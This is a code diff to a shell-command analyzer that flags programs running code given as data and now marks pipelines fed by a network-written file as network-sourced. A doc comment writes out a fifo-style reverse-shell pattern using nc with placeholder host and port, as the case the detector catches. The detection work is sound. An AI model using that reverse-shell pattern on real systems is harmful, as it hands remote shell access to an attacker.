@@ -1,5 +1,5 @@
 // Carriers: programs that run code given as data (sh -c, eval, find -exec, git -c, awk system() …).
-import type { Extraction, Invocation, Redirect, Word } from '../types.ts';
+import type { Extraction, Invocation, Redirect, SimpleCommand, Word } from '../types.ts';
 import { getopt, spec } from './options.ts';
 import { programSpec } from './specs.ts';
 import { execKind, envConfigs, parseGit } from './git.ts';
@@ -46,8 +46,8 @@ export function shellStdin(inv: Invocation, name: string, ex: Extraction, st: No
   }
   const sc = inv.source;
   if (sc.pipe && sc.pipe.index > 0) {
-    if (ops.networkPipe(sc, ex)) return ops.opaque(inv, carrier, 'network', st, extra);
     const prev = feedingStage(ex, sc)[0];
+    if (ops.networkPipe(sc, ex) || (prev !== undefined && printsNetworkFed(prev, ex, st, ops))) return ops.opaque(inv, carrier, 'network', st, extra);
     const text = prev ? stageOutput(ex, prev) : null;
     if (text !== null) {
       if (language) return ops.opaque(inv, carrier, 'language', st, { language, payload: text });
@@ -58,6 +58,13 @@ export function shellStdin(inv: Invocation, name: string, ex: Extraction, st: No
     return ops.opaque(inv, carrier, 'stdin', st, extra);
   }
   ops.opaque(inv, carrier, 'stdin', st, extra);
+}
+
+/** A stage that reads a file a network program writes into (`cat f | sh -i 2>&1 | nc H P > f`). */
+function printsNetworkFed(prev: SimpleCommand, ex: Extraction, st: NormState, ops: Ops): boolean {
+  for (let i = 1; i < prev.argv.length; i++) if (fedByNetwork(prev.argv[i]!, ex, st, ops)) return true;
+  for (const r of prev.redirects) if ((r.op === '<' || r.op === '<>') && (r.fd === null || r.fd === 0) && fedByNetwork(r.target, ex, st, ops)) return true;
+  return false;
 }
 
 /** A file (a fifo, say) that a network program of the same source writes into, before or after:
